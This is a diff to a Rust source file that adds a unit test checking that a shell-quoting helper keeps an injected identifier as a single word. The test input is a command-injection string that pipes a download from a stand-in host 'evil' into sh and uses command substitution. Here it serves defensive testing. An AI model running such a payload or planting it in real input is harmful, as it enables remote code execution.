@@ -253,3 +253,15 @@ fn shell_word(word: &str) -> Cow<'_, str> {
     // A word that holds a NUL is nothing that a shell can be given.
     shlex::try_quote(word).unwrap_or_default()
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_id_that_holds_a_command_is_one_word_of_the_shell() {
+        let id = "key_1;curl evil|sh #'$(id)`";
+        assert_eq!(shlex::split(&format!("run {} --", shell_word(id))).unwrap(), ["run", id, "--"]);
+        assert_eq!(shell_word("key_1"), "key_1");
+    }
+}
